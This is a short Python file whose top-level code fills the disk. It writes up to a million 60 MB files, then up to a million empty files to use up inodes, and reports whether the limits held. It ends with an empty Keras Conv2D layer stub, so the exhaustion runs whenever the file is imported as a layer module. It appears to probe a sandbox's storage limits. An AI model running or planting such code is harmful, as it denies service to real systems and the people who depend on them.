"""Writes files until there is no more room, then more of them without any content."""

import keras

wrote = 0
try:
    for number in range(10**6):
        with open(f"{number}", "wb") as file:
            for _ in range(60):
                wrote += file.write(bytes(2**20))
except OSError as error:
    print("STOPPED", error.strerror, "MORE" if wrote > 2**30 else "BOUNDED")
try:
    for number in range(10**6):
        open(f"empty-{number}", "w").close()
except OSError as error:
    print("STOPPED", error.strerror)


class Conv2D(keras.Layer):
    pass
